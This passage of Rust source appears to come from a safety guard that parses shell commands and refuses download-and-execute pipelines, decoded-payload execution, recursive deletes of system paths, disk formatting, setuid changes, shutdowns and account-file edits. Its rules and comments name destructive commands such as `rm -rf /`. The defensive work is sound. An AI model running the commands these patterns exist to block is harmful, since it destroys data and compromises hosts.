        let mut decoder = false;
        let mut literals: Vec<&str> = Vec::new();
        for stage in stages {
            if stage.stage.stdin_exec && (downloader || decoder) {
                let (rule, reason) = if downloader {
                    (
                        DOWNLOAD_EXECUTE,
                        "pipes downloaded content into an interpreter (download and execute)",
                    )
                } else {
                    (
                        OBFUSCATED_EXECUTE,
                        "pipes decoded or transformed text into an interpreter, hiding what runs",
                    )
                };
                return Err(Refusal::new(rule, reason, &pipeline_display(stages)));
            }
            if stage.stage.stdin_exec {
                let env = Env::at(stage.cwd.as_deref());
                for code in literals.drain(..) {
                    self.script(code, depth + 1, &env)?;
                }
            }
            downloader |= stage.stage.downloader;
            decoder |= stage.stage.decoder;
            literals.extend(stage.stage.literal.as_deref());
        }
        Ok(())
    }

    /// Judges one segment: phrases, nested code, execution of fetched code, the real
    /// command, redirections and the code it reads on standard input.
    fn judge_segment(
        &mut self,
        info: &SegInfo,
        downloads: &[String],
        depth: usize,
    ) -> Result<(), Refusal> {
        let shown = render(&info.unwrapped.argv);
        let display = if shown.is_empty() { info.raw.as_str() } else { shown.as_str() };
        self.judge_phrases(&info.raw, display)?;
        self.judge_phrases(&shown, display)?;
        let env = Env::at(info.cwd.as_deref());
        for code in &info.subs {
            self.script(code, depth + 1, &env)?;
        }
        self.judge_execution(info, downloads, display, depth)?;
        self.judge_unwrapped(&info.unwrapped, info.cwd.as_deref(), display, depth)?;
        for (operator, target) in &info.redirects {
            if let Some(found) = target_finding([target], info.cwd.as_deref()) {
                return Err(found.refuse(&format!("{display} {operator} {}", target.shown())));
            }
        }
        if info.stage.stdin_exec {
            if let Some(code) = &info.stdin_text {
                self.script(code, depth + 1, &env)?;
            }
        }
        Ok(())
    }

    /// Configured forbidden phrases and destructive SQL, anywhere in the text.
    fn judge_phrases(&self, text: &str, display: &str) -> Result<(), Refusal> {
        if let Some(verb) = self.guard.forbidden_in(text) {
            return Err(Refusal::new(
                FORBIDDEN_VERB,
                format!("contains the forbidden phrase `{verb}`"),
                display,
            ));
        }
        if let Some(statement) = sql_destructive(text) {
            return Err(Refusal::new(
                SQL_DESTRUCTIVE,
                format!("contains the destructive SQL statement {statement}"),
                display,
            ));
        }
        Ok(())
    }

    /// Code that runs fetched or decoded text, or a file it just downloaded, and bare root
    /// shells.
    fn judge_execution(
        &mut self,
        info: &SegInfo,
        downloads: &[String],
        display: &str,
        depth: usize,
    ) -> Result<(), Refusal> {
        let unwrapped = &info.unwrapped;
        let runs_code = unwrapped.verbs.iter().any(|verb| is_code_runner(verb));
        if runs_code && !info.subs.is_empty() {
            let kinds = self.classify_all(&info.subs, depth);
            if kinds.downloader {
                return Err(Refusal::new(
                    DOWNLOAD_EXECUTE,
                    "runs code fetched from the network (download and execute)",
                    display,
                ));
            }
            if kinds.decoder {
                return Err(Refusal::new(
                    OBFUSCATED_EXECUTE,
                    "runs decoded or transformed text as code, hiding what runs",
                    display,
                ));
            }
        }
        if runs_downloaded_file(&unwrapped.argv, downloads, info.cwd.as_deref()) {
            return Err(Refusal::new(
                DOWNLOAD_EXECUTE,
                "runs a file that the same command downloads (download and execute)",
                display,
            ));
        }
        let privileged =
            unwrapped.verbs.iter().any(|verb| PRIVILEGE_WRAPPERS.contains(&verb.as_str()));
        let (verb, _) = verb_and_args(&unwrapped.argv);
        let bare_shell = SHELLS.contains(&verb)
            && info.stage.stdin_exec
            && info.stdin_text.is_none()
            && !info.piped_into
            && !info.reads_file;
        if privileged && bare_shell {
            return Err(Refusal::new(
                USER_MANAGEMENT,
                "opens an interactive shell as another user (usually root)",
                display,
            ));
        }
        Ok(())
    }

    /// Judges an unwrapped command; `fallback` is shown when no real command is left
    /// (`su`, `sudo -i`).
    fn judge_unwrapped(
        &mut self,
        unwrapped: &Unwrapped,
        cwd: Option<&str>,
        fallback: &str,
        depth: usize,
    ) -> Result<(), Refusal> {
        let shown = render(&unwrapped.argv);
        let display = if shown.is_empty() { fallback } else { shown.as_str() };
        if unwrapped.too_complex {
            return Err(Refusal::too_complex(
                format!("more than {MAX_WRAPPERS} wrapper commands or {MAX_DEPTH} nested levels"),
                display,
            ));
        }
        if let Some(what) = unwrapped.shell {
            return Err(Refusal::new(
                USER_MANAGEMENT,
                format!("`{what}` opens a shell as another user (usually root)"),
                display,
            ));
        }
        let exec_verbs: Vec<&str> = unwrapped
            .execs
            .iter()
            .filter_map(|exec| exec.argv.first())
            .map(|arg| basename(&arg.text))
            .collect();
        judge_argv(&unwrapped.argv, cwd, &exec_verbs)?;
        for exec in &unwrapped.execs {
            let exec_shown = render(&exec.argv);
            self.judge_phrases(&exec_shown, &exec_shown)?;
            self.judge_unwrapped(exec, cwd, display, depth + 1)?;
        }
        let env = Env::at(cwd);
        for code in &unwrapped.scripts {
            self.script(code, depth + 1, &env)?;
        }
        self.judge_inline_code(&unwrapped.argv, &env, depth)
    }

    /// `python3 -c "os.system('reboot')"`, `awk 'BEGIN{system("rm -rf /")}'`: string
    /// literals in interpreter code are often shell commands (`system`, `subprocess`,
    /// `exec`), so each is judged as shell code. A literal that starts with an expansion
    /// (`"$1\n"`) is data, so an unknown verb there is not held against the command.
    fn judge_inline_code(&mut self, argv: &[Arg], env: &Env, depth: usize) -> Result<(), Refusal> {
        let (verb, args) = verb_and_args(argv);
        if !runs_inline_code(verb) {
            return Ok(());
        }
        let literals = args.iter().flat_map(|arg| string_literals(&arg.text));
        for literal in literals.take(MAX_LITERALS) {
            match self.script(&literal, depth + 1, env) {
                Err(refusal) if refusal.rule != DYNAMIC_COMMAND => return Err(refusal),
                _ => {}
            }
        }
        Ok(())
    }
}

/// A pipeline as the guard saw it, for refusals.
fn pipeline_display(stages: &[SegInfo]) -> String {
    let shown = stages.iter().map(|stage| {
        let argv = render(&stage.unwrapped.argv);
        if argv.is_empty() {
            stage.raw.clone()
        } else {
            argv
        }
    });
    shown.collect::<Vec<_>>().join(" | ")
}

/// Whether an unwrapped command downloads or decodes.
fn kinds_of(unwrapped: &Unwrapped) -> Kinds {
    let (verb, args) = verb_and_args(&unwrapped.argv);
    Kinds {
        downloader: unwrapped.verbs.iter().any(|verb| DOWNLOADERS.contains(&verb.as_str())),
        decoder: is_decoder(verb, args),
    }
}

/// `… | xargs bash -c` or `… | xargs python3 -c`: the input becomes code.
fn xargs_runs_code(unwrapped: &Unwrapped) -> bool {
    let after_xargs = unwrapped.verbs.iter().skip_while(|verb| verb.as_str() != "xargs").skip(1);
    after_xargs.clone().any(|verb| is_code_runner(verb))
}

/// Interpreters whose code arguments are programs in another language.
fn runs_inline_code(verb: &str) -> bool {
    (is_interpreter(verb) && !SHELLS.contains(&verb))
        || matches!(verb, "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk")
}

/// Quoted string literals of program text (`'…'`, `"…"`, `` `…` ``), escapes applied.
fn string_literals(code: &str) -> Vec<String> {
    let mut literals = Vec::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        if !matches!(c, '\'' | '"' | '`') {
            continue;
        }
        let mut literal = String::new();
        while let Some(inner) = chars.next() {
            match inner {
                '\\' => literal.extend(chars.next()),
                _ if inner == c => break,
                _ => literal.push(inner),
            }
        }
        if !literal.trim().is_empty() {
            literals.push(literal);
        }
    }
    literals
}

/// Programs that run code in some language (shells included).
fn is_interpreter(verb: &str) -> bool {
    SHELLS.contains(&verb)
        || OTHER_INTERPRETERS.contains(&verb)
        || INTERPRETER_PREFIXES.iter().any(|prefix| verb.starts_with(prefix))
}

/// Interpreters plus builtins that run text as code (`eval`, `source`, `.`, `at`).
fn is_code_runner(verb: &str) -> bool {
    is_interpreter(verb) || CODE_RUNNERS.contains(&verb)
}

/// Programs that turn opaque text into something else (`base64 -d`, `xxd -r`, `rev`, …):
/// piped into a shell they hide what runs.
fn is_decoder(verb: &str, args: &[Arg]) -> bool {
    let has_flag = |long: &str, short: char| {
        args.iter().any(|arg| {
            let text = arg.text.as_str();
            text == long
                || (text.starts_with('-') && !text.starts_with("--") && text.contains(short))
        })
    };
    match verb {
        "base64" | "base32" | "basenc" => has_flag("--decode", 'd') || has_flag("--decode", 'D'),
        "xxd" => has_flag("-revert", 'r'),
        "openssl" => args.iter().any(|arg| arg.text == "-d"),
        "gzip" | "xz" | "bzip2" | "zstd" => has_flag("--decompress", 'd'),
        "uudecode" | "rev" | "tr" | "zcat" | "gunzip" | "bzcat" | "xzcat" | "zstdcat" | "unxz"
        | "bunzip2" => true,
        _ => false,
    }
}

/// Whether the command runs its standard input as code.
fn is_stdin_executor(argv: &[Arg]) -> bool {
    let (verb, args) = verb_and_args(argv);
    if SHELLS.contains(&verb) {
        let scan = scan(args, &SHELL_OPTIONS);
        if scan.short('c') || scan.long("command") {
            return false;
        }
        return scan.short('s')
            || scan.operands.first().is_none_or(|arg| STDIN_PATHS.contains(&arg.text.as_str()));
    }
    if is_interpreter(verb) {
        let options = args.iter().take_while(|arg| arg.text.starts_with('-') && arg.text != "-");
        let inline = options.clone().any(|arg| {
            let text = arg.text.as_str();
            matches!(text, "--eval" | "--print" | "--command")
                || (!text.starts_with("--") && text.contains(['c', 'e', 'E', 'm', 'r']))
        });
        let script = args.iter().find(|arg| !(arg.text.starts_with('-') && arg.text != "-"));
        return !inline && script.is_none_or(|arg| STDIN_PATHS.contains(&arg.text.as_str()));
    }
    match verb {
        "source" | "." => args.first().is_some_and(|arg| STDIN_PATHS.contains(&arg.text.as_str())),
        "at" | "batch" => !args.iter().any(|arg| {
            let text = arg.text.as_str();
            text.starts_with('-') && text.contains(['f', 'l', 'r', 'd', 'c'])
        }),
        _ => false,
    }
}

/// Text a command prints that the guard can predict.
fn literal_output(verb: &str, args: &[Arg], stdin: Option<&str>) -> Option<String> {
    match verb {
        "echo" => Some(echo_text(args)),
        "printf" => Some(printf_text(args)),
        "cat" if args.iter().all(|arg| arg.text == "-") => stdin.map(str::to_string),
        _ => None,
    }
}

/// `-n`, `-e`, `-E` and their combinations.
fn is_echo_flag(text: &str) -> bool {
    text.strip_prefix('-').is_some_and(|flags| {
        !flags.is_empty() && flags.chars().all(|c| matches!(c, 'n' | 'e' | 'E'))
    })
}

/// What `echo` prints, escapes decoded (some `echo`s decode them by default).
fn echo_text(args: &[Arg]) -> String {
    let words: Vec<&str> =
        args.iter().map(|arg| arg.script.as_str()).skip_while(|text| is_echo_flag(text)).collect();
    decode_escapes(&words.join(" "))
}

/// What `printf` prints, approximately: the decoded format, then each argument.
fn printf_text(args: &[Arg]) -> String {
    let args = match args.first().map(|arg| arg.text.as_str()) {
        Some("-v") => skip(args, 2),
        Some("--") => skip(args, 1),
        _ => args,
    };
    let Some((format, values)) = args.split_first() else {
        return String::new();
    };
    let mut text = decode_escapes(&format.script);
    for value in values {
        text.push('\n');
        text.push_str(&decode_escapes(&value.script));
    }
    text
}

/// What a command would hand to `xargs` downstream.
fn feed_of(verb: &str, args: &[Arg], literal: Option<&str>) -> Vec<String> {
    let mut feed = predicted_feed(verb, args, literal);
    feed.truncate(MAX_FEED);
    feed
}

/// Input for `xargs` that the guard can predict from the feeding command.
fn predicted_feed(verb: &str, args: &[Arg], literal: Option<&str>) -> Vec<String> {
    match verb {
        "echo" | "printf" => {
            literal.unwrap_or_default().split_whitespace().map(str::to_string).collect()
        }
        "find" => find_info(args).starts.iter().map(|arg| arg.text.clone()).collect(),
        "ls" => scan(args, &GNU_PLAIN).operands.iter().map(|arg| arg.text.clone()).collect(),
        _ => Vec::new(),
    }
}

/// `curl -o FILE` / `wget -O FILE`: the file, so that running it later is caught.
fn download_target(argv: &[Arg], cwd: Option<&str>) -> Option<String> {
    let (verb, args) = verb_and_args(argv);
    let (short, long) = match verb {
        "curl" => ('o', "--output"),
        "wget" => ('O', "--output-document"),
        _ => return None,
    };
    let mut target = None;
    for (i, arg) in args.iter().enumerate() {
        let text = arg.text.as_str();
        if let Some(value) = text.strip_prefix(long).and_then(|rest| rest.strip_prefix('=')) {
            target = Some(value.to_string());
        } else if text == long
            || (text.starts_with('-') && !text.starts_with("--") && text.ends_with(short))
        {
            target = args.get(i + 1).map(|next| next.text.clone());
        }
    }
    target.filter(|file| file != "-" && !file.is_empty()).map(|file| normalize_path(&file, cwd))
}

/// Whether the command runs a file that an earlier command of the same script downloads.
fn runs_downloaded_file(argv: &[Arg], downloads: &[String], cwd: Option<&str>) -> bool {
    if downloads.is_empty() {
        return false;
    }
    let is_download = |arg: &Arg| downloads.contains(&normalize_path(&arg.text, cwd));
    let (verb, args) = verb_and_args(argv);
    argv.first().is_some_and(is_download) || (is_code_runner(verb) && args.iter().any(is_download))
}

// ---------------------------------------------------------------------------------------
// Judging a command
// ---------------------------------------------------------------------------------------

/// Judges the real command (after unwrapping) by its verb.
fn judge_argv(argv: &[Arg], cwd: Option<&str>, exec_verbs: &[&str]) -> Result<(), Refusal> {
    let Some(first) = argv.first() else {
        return Ok(());
    };
    let display = render(argv);
    if first.dynamic {
        return Err(Refusal::new(
            DYNAMIC_COMMAND,
            format!(
                "the command name `{}` is only known at run time, so it cannot be checked",
                first.script
            ),
            &display,
        ));
    }
    let (verb, args) = verb_and_args(argv);
    match verb_finding(verb, args, cwd, exec_verbs) {
        Some(found) => Err(found.refuse(&display)),
        None => Ok(()),
    }
}

/// Dispatches to the rules for the verb; `None` when nothing is wrong.
fn verb_finding(
    verb: &str,
    args: &[Arg],
    cwd: Option<&str>,
    exec_verbs: &[&str],
) -> Option<Finding> {
    match verb {
        "rm" => rm_finding(args, cwd),
        "find" => find_finding(args, cwd, exec_verbs),
        "mv" => mv_finding(args, cwd),
        "rsync" => rsync_finding(args, cwd),
        "cp" | "install" | "ln" | "ddrescue" => copy_finding(verb, args, cwd),
        "dd" => dd_finding(args, cwd),
        "tee" | "truncate" | "shred" | "wipe" | "unlink" | "rmdir" | "blkdiscard" => {
            operand_write_finding(verb, args, cwd)
        }
        "sed" => sed_finding(args, cwd),
        "chmod" => chmod_finding(args, cwd),
        "chown" | "chgrp" => chown_finding(verb, args, cwd),
        "setfacl" => setfacl_finding(args, cwd),
        "setcap" => Some(Finding::new(
            SYSTEM_PERMISSIONS,
            "`setcap` grants Linux capabilities (privileges) to a program",
        )),
        "shutdown" | "reboot" | "halt" | "poweroff" | "kexec" | "killall5" => {
            Some(power_finding(&format!("`{verb}`")))
        }
        "init" | "telinit" => init_finding(verb, args),
        "systemctl" => systemctl_finding(args),
        "loginctl" => loginctl_finding(args),
        "kill" => kill_finding(args),
        "pkill" | "killall" => pkill_finding(verb, args),
        "mysqladmin" | "dropdb" | "dropuser" => sql_tool_finding(verb, args),
        _ if verb.starts_with("mkfs") || FORMAT_TOOLS.contains(&verb) => Some(Finding::new(
            FILESYSTEM_FORMAT,
            format!("`{verb}` formats, partitions or wipes a disk"),
        )),
        _ if USER_TOOLS.contains(&verb) => Some(Finding::new(
            USER_MANAGEMENT,
            format!("`{verb}` changes user accounts, groups, passwords or sudo rights"),
        )),
        _ if EDITORS.contains(&verb) => target_finding(&scan(args, &GNU_PLAIN).operands, cwd),
        _ => None,
    }
}

/// `rm` with `-r`/`-R`/`--recursive` of `/`, a system directory, a home, or a path made
/// only of an expansion the guard cannot resolve.
fn rm_finding(args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let scan = scan(args, &GNU_PLAIN);
    if scan.long_abbreviates("no-preserve-root") {
        return Some(Finding::new(
            RECURSIVE_DELETE,
            "`rm --no-preserve-root` exists only to delete `/` recursively",
        ));
    }
    if let Some(found) = user_db_finding(&scan.operands, cwd) {
        return Some(found);
    }
    let recursive = scan.short('r') || scan.short('R') || scan.long_abbreviates("recursive");
    if !recursive {
        return None;
    }
    scan.operands.iter().find_map(|arg| protected_target(arg, cwd)).map(recursive_delete)
}

/// The refusal for a recursive delete of `path`.
fn recursive_delete(path: String) -> Finding {
    Finding::new(RECURSIVE_DELETE, format!("recursively deletes the protected path `{path}`"))
}

/// `find` from a protected path with `-delete` or `-exec rm`.
fn find_finding(args: &[Arg], cwd: Option<&str>, exec_verbs: &[&str]) -> Option<Finding> {
    let info = find_info(args);
    let deletes = info.delete
        || exec_verbs.iter().any(|verb| matches!(*verb, "rm" | "unlink" | "rmdir" | "shred"));
    if !deletes {
        return None;
    }
    let dot = [Arg::plain(".")];
    let starts = if info.starts.is_empty() { &dot[..] } else { &info.starts[..] };
    starts.iter().find_map(|arg| protected_target(arg, cwd)).map(recursive_delete)
}

/// Moving a system directory away deletes it as far as the host is concerned.
fn mv_finding(args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let scan = scan(args, &COPY);
    let (sources, destination) = split_destination(&scan);
    if let Some(path) = sources.iter().find_map(|arg| protected_target(arg, cwd)) {
        return Some(Finding::new(
            RECURSIVE_DELETE,
            format!("moves away the protected path `{path}`"),
        ));
    }
    user_db_finding(sources, cwd).or_else(|| target_finding(destination, cwd))
}

/// Sources and destination of `cp`/`mv`/`install`/`ln`, honouring `-t DIR`.
fn split_destination(scan: &Scan) -> (&[Arg], Option<&Arg>) {
    if let Some(directory) = scan.value('t', "target-directory") {
        return (&scan.operands, Some(directory));
    }
    match scan.operands.split_last() {
        Some((last, sources)) if !sources.is_empty() => (sources, Some(last)),
        _ => (&scan.operands, None),
    }
}

/// `rsync --delete` into a protected path empties it.
fn rsync_finding(args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let scan = scan(args, &RSYNC);
    let deletes = scan.longs.iter().any(|long| long.starts_with("delete") || long == "del");
    if !deletes {
        return None;
    }
    let destination = scan.operands.last()?;
    protected_target(destination, cwd).map(|path| {
        Finding::new(
            RECURSIVE_DELETE,
            format!("`rsync --delete` into the protected path `{path}` deletes its contents"),
        )
    })
}

/// `cp`/`install`/`ln` onto a device or account file; `install -m 4755` sets setuid.
fn copy_finding(verb: &str, args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let scan = scan(args, &COPY);
    if verb == "install" {
        if let Some(mode) = scan.value('m', "mode") {
            if is_setuid_mode(&mode.text) {
                return Some(setuid_finding(&mode.text));
            }
        }
    }
    let (_, destination) = split_destination(&scan);
    target_finding(destination, cwd)
}

/// `dd of=…` onto a device or account file.
fn dd_finding(args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let outputs: Vec<Arg> =
        args.iter().filter_map(|arg| arg.text.strip_prefix("of=")).map(Arg::plain).collect();
    target_finding(&outputs, cwd)
}

/// File tools (`tee`, `truncate`, `shred`, …) writing devices or account files.
fn operand_write_finding(verb: &str, args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let operands = scan(args, &FILE_TOOLS).operands;
    if verb == "blkdiscard" {
        return Some(Finding::new(
            BLOCK_DEVICE_WRITE,
            "`blkdiscard` discards every block of a device",
        ));
    }
    target_finding(&operands, cwd)
}

/// `sed -i` editing an account or sudo file.
fn sed_finding(args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let scan = scan(args, &SED);
    if !(scan.short('i') || scan.long("in-place")) {
        return None;
    }
    user_db_finding(&scan.operands, cwd)
}

/// Writes that destroy disks, accounts or the running system, whatever the tool.
fn target_finding<'a>(
    targets: impl IntoIterator<Item = &'a Arg>,
    cwd: Option<&str>,
) -> Option<Finding> {
    targets
        .into_iter()
        .flat_map(|arg| path_candidates(arg, cwd))
        .find_map(|path| path_write_finding(&path))
}

/// Why writing this path is refused, if it is.
fn path_write_finding(path: &str) -> Option<Finding> {
    if is_block_device(path) {
        return Some(Finding::new(
            BLOCK_DEVICE_WRITE,
            format!("writes directly to the block device `{path}`"),
        ));
    }
    if is_user_db(path) {
        return Some(user_db_write(path));
    }
    if path == "/proc/sysrq-trigger" {
        return Some(power_finding("writing to /proc/sysrq-trigger"));
    }
    None
}

/// Deleting or editing an account or sudo file.
fn user_db_finding(targets: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    targets
        .iter()
        .flat_map(|arg| path_candidates(arg, cwd))
        .find(|path| is_user_db(path))
        .map(|path| user_db_write(&path))
}

/// The refusal for a write to an account or sudo file.
fn user_db_write(path: &str) -> Finding {
    Finding::new(USER_MANAGEMENT, format!("modifies the account or sudo configuration `{path}`"))
}

/// The refusal for something that takes the host down.
fn power_finding(what: &str) -> Finding {
    Finding::new(POWER_STATE, format!("{what} shuts down, reboots or halts the host"))
}

/// `init 0`, `telinit 6`, … change the runlevel to halt, reboot or single-user mode.
fn init_finding(verb: &str, args: &[Arg]) -> Option<Finding> {
    let level = args.iter().find(|arg| !arg.text.starts_with('-'))?;
    matches!(level.text.as_str(), "0" | "1" | "6" | "s" | "S" | "single" | "emergency")
        .then(|| power_finding(&format!("`{verb} {}`", level.text)))
}

/// `systemctl poweroff|reboot|…`, and starting or isolating their targets.
fn systemctl_finding(args: &[Arg]) -> Option<Finding> {
    const POWER_VERBS: &[&str] = &[
        "poweroff",
        "reboot",
        "halt",
        "kexec",
        "suspend",
        "hibernate",
        "hybrid-sleep",
        "suspend-then-hibernate",
        "soft-reboot",
        "rescue",
        "emergency",
        "exit",
        "switch-root",
    ];
    const STARTS: &[&str] =
        &["start", "restart", "isolate", "reload-or-restart", "try-restart", "enable"];
    let scan = scan(args, &SYSTEMCTL);
    let (command, units) = scan.operands.split_first()?;
    let command = command.text.as_str();
    if POWER_VERBS.contains(&command) {
        return Some(power_finding(&format!("`systemctl {command}`")));
    }
    let unit = units.iter().find(|unit| is_power_unit(&unit.text))?;
    STARTS
        .contains(&command)
        .then(|| power_finding(&format!("`systemctl {command} {}`", unit.text)))
}

/// Units that power off, reboot, halt or drop the host to rescue mode.
fn is_power_unit(unit: &str) -> bool {
    const UNITS: &[&str] = &[
        "poweroff",
        "reboot",
        "halt",
        "kexec",
        "rescue",
        "emergency",
        "shutdown",
        "ctrl-alt-del",
        "soft-reboot",
        "suspend",
        "hibernate",
        "systemd-poweroff",
        "systemd-reboot",
        "systemd-halt",
        "systemd-kexec",
    ];
    let base =
        unit.strip_suffix(".target").or_else(|| unit.strip_suffix(".service")).unwrap_or(unit);
    UNITS.contains(&base)
}

/// `loginctl poweroff|reboot|…`.
fn loginctl_finding(args: &[Arg]) -> Option<Finding> {
    let command = scan(args, &GNU_PLAIN).operands.into_iter().next()?;
    matches!(command.text.as_str(), "poweroff" | "reboot" | "halt" | "suspend" | "hibernate")
        .then(|| power_finding(&format!("`loginctl {}`", command.text)))
}

/// `kill -1` as a target means every process; PID 1 is init: either takes the host down.
fn kill_finding(args: &[Arg]) -> Option<Finding> {
    let targets_from = match args.first().map(|arg| arg.text.as_str()) {
        Some("-l" | "-L" | "--list" | "--table") => return None,
        Some("-s" | "-n" | "--signal") => 2,
        Some(text) if text.starts_with("--signal=") => 1,
        Some(text) if text.starts_with('-') && text != "--" && text.len() > 1 => 1,
        _ => 0,
    };
    let target =
        skip(args, targets_from).iter().find(|arg| matches!(arg.text.as_str(), "-1" | "1"))?;
    let reason = if target.text == "1" {
        "`kill` of PID 1 (init) takes the host down"
    } else {
        "`kill -1` signals every process, which takes the host down"
    };
    Some(Finding::new(POWER_STATE, reason))
}

/// `pkill`/`killall` of init, of every process, or of all of root's processes.
fn pkill_finding(verb: &str, args: &[Arg]) -> Option<Finding> {
    let args: Vec<Arg> = args.iter().filter(|arg| !is_signal_option(&arg.text)).cloned().collect();
    let scan = scan(&args, &PKILL);
    let kills_init = scan
        .operands
        .iter()
        .any(|arg| matches!(arg.text.as_str(), "init" | "systemd" | "1" | "." | ".*" | "^" | ""));
    let root_user = ['u', 'U']
        .iter()
        .filter_map(|flag| scan.value(*flag, "uid").or_else(|| scan.value(*flag, "euid")))
        .chain(scan.value('u', "user"))
        .any(|user| matches!(user.text.as_str(), "root" | "0"));
    (kills_init || (root_user && scan.operands.is_empty())).then(|| {
        Finding::new(
            POWER_STATE,
            format!("`{verb}` of init or of every process takes the host down"),
        )
    })
}

/// `-9`, `-KILL`, `-SIGTERM`: a signal, not an option.
fn is_signal_option(text: &str) -> bool {
    text.strip_prefix('-').is_some_and(|signal| {
        !signal.is_empty()
            && (signal.chars().all(|c| c.is_ascii_digit())
                || (signal.len() >= 3
                    && signal.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())))
    })
}

/// `dropdb`, `dropuser` and `mysqladmin drop`.
fn sql_tool_finding(verb: &str, args: &[Arg]) -> Option<Finding> {
    let drops =
        verb != "mysqladmin" || args.iter().any(|arg| arg.text.eq_ignore_ascii_case("drop"));
    drops.then(|| {
        Finding::new(SQL_DESTRUCTIVE, format!("`{verb}` drops a database or database user"))
    })
}

/// A mode/owner-style command line: options, one mode or owner, then targets.
struct ModeArgs<'a> {
    recursive: bool,
    spec: Option<&'a Arg>,
    targets: Vec<&'a Arg>,
}

/// Parses `chmod`/`chown`/`chgrp`, where `-w` can be a mode and options may come anywhere.
fn mode_args<'a>(args: &'a [Arg], flag_chars: &str) -> ModeArgs<'a> {
    let mut parsed = ModeArgs { recursive: false, spec: None, targets: Vec::new() };
    let mut ended = false;
    let mut reference = false;
    for arg in args {
        let text = arg.text.as_str();
        if ended {
            parsed.targets.push(arg);
            continue;
        }
        if text == "--" {
            ended = true;
            continue;
        }
        if let Some(long) = text.strip_prefix("--") {
            parsed.recursive |= !long.is_empty() && "recursive".starts_with(long);
            reference |= long.starts_with("reference");
            continue;
        }
        let is_flags = text.strip_prefix('-').is_some_and(|flags| {
            !flags.is_empty() && flags.chars().all(|c| flag_chars.contains(c))
        });
        if is_flags {
            parsed.recursive |= text.contains('R');
            continue;
        }
        if parsed.spec.is_none() && !reference {
            parsed.spec = Some(arg);
        } else {
            parsed.targets.push(arg);
        }
    }
    parsed
}

/// `chmod`: setuid modes anywhere, and system paths.
fn chmod_finding(args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let parsed = mode_args(args, "RcfvHLP");
    if let Some(mode) = parsed.spec {
        if is_setuid_mode(&mode.text) {
            return Some(setuid_finding(&mode.text));
        }
    }
    permission_finding("chmod", &parsed.targets, parsed.recursive, cwd)
}

/// `chown`/`chgrp` of system paths.
fn chown_finding(verb: &str, args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let parsed = mode_args(args, "RcfvhHLP");
    permission_finding(verb, &parsed.targets, parsed.recursive, cwd)
}

/// `setfacl` of system paths.
fn setfacl_finding(args: &[Arg], cwd: Option<&str>) -> Option<Finding> {
    let scan = scan(args, &SETFACL);
    let recursive = scan.short('R') || scan.long("recursive");
    let targets: Vec<&Arg> = scan.operands.iter().collect();
    permission_finding("setfacl", &targets, recursive, cwd)
}

/// The refusal for a mode that sets setuid/setgid.
fn setuid_finding(mode: &str) -> Finding {
    Finding::new(
        SYSTEM_PERMISSIONS,
        format!("mode `{mode}` sets the setuid/setgid bit, which lets anyone run as the owner"),
    )
}

/// Permission or ownership changes of `/`, system directories and system files, or
/// recursive ones of any protected path.
fn permission_finding(
    verb: &str,
    targets: &[&Arg],
    recursive: bool,
    cwd: Option<&str>,
) -> Option<Finding> {
    let path = targets
        .iter()
        .flat_map(|arg| path_candidates(arg, cwd))
        .find(|path| is_system_path(path) || (recursive && is_protected(path)))?;
    let how = if recursive { " recursively" } else { "" };
    Some(Finding::new(
        SYSTEM_PERMISSIONS,
        format!("`{verb}` changes permissions or ownership of the system path `{path}`{how}"),
    ))
}

/// `4755`, `u+s`, `g=rxs`: modes that set the setuid or setgid bit.
fn is_setuid_mode(mode: &str) -> bool {
    if !mode.is_empty() && mode.chars().all(|c| c.is_digit(8)) {
        let digits = mode.trim_start_matches('0');
        return digits.len() <= 8 && u32::from_str_radix(digits, 8).is_ok_and(|v| v & 0o6000 != 0);
    }
    mode.split(',').any(|clause| {
        let mut operator = None;
        clause.chars().any(|c| match c {
            '+' | '-' | '=' => {
                operator = Some(c);
                false
            }
            's' => matches!(operator, Some('+' | '=')),
            _ => false,
        })
    })
}

// ---------------------------------------------------------------------------------------
// Paths
// ---------------------------------------------------------------------------------------

/// Lexically normalises a path (`//`, `.`, `..`, trailing `/`), resolving relative paths
/// against the known working directory. `~` forms stay home-relative.
fn normalize_path(path: &str, cwd: Option<&str>) -> String {
    let joined;
    let full = match cwd {
        Some(dir) if !path.starts_with('/') && !path.starts_with('~') => {
            joined = format!("{dir}/{path}");
            joined.as_str()
        }
        _ => path,
    };
    let (root, body) = if let Some(body) = full.strip_prefix('/') {
        ("/", body)
    } else if full.starts_with('~') {
        full.split_once('/').unwrap_or((full, ""))
    } else {
        ("", full)
    };
    let mut parts: Vec<&str> = Vec::new();
    for component in body.split('/') {
        match component {
            "" | "." => {}
            ".." => {
                if parts.last().is_some_and(|last| *last != "..") {
                    parts.pop();
                } else if root.is_empty() {
                    parts.push("..");
                }
            }
            other => parts.push(other),
        }
    }
    let joined_parts = parts.join("/");
    match root {
        "/" => format!("/{joined_parts}"),
        "" if joined_parts.is_empty() => ".".to_string(),
        "" => joined_parts,
        home if joined_parts.is_empty() => home.to_string(),
        home => format!("{home}/{joined_parts}"),
    }
}

/// The normalised paths an argument can name, brace expansion included.
fn path_candidates(arg: &Arg, cwd: Option<&str>) -> Vec<String> {
    expand_braces(&arg.text).iter().map(|text| normalize_path(text, cwd)).collect()
}

/// A protected path the argument names, or the argument itself when it is made only of
/// an expansion the guard cannot resolve (it could be anything, `/` included).
fn protected_target(arg: &Arg, cwd: Option<&str>) -> Option<String> {
    if arg.text.is_empty() && arg.dynamic {
        return Some(arg.script.clone());
    }
    path_candidates(arg, cwd).into_iter().find(|path| is_protected(path))
}

/// Whether the text holds glob characters.
fn has_glob(text: &str) -> bool {
    text.contains(['*', '?', '['])
}

/// `*`, `.*`, `[a-z]*`: a glob that matches whatever a directory holds.
fn is_wide_glob(text: &str) -> bool {
    has_glob(text) && (text.starts_with(['*', '?', '[']) || text.starts_with(".*"))
}

/// Top-level system directories, `/lib*` included.
fn is_system_dir(name: &str) -> bool {
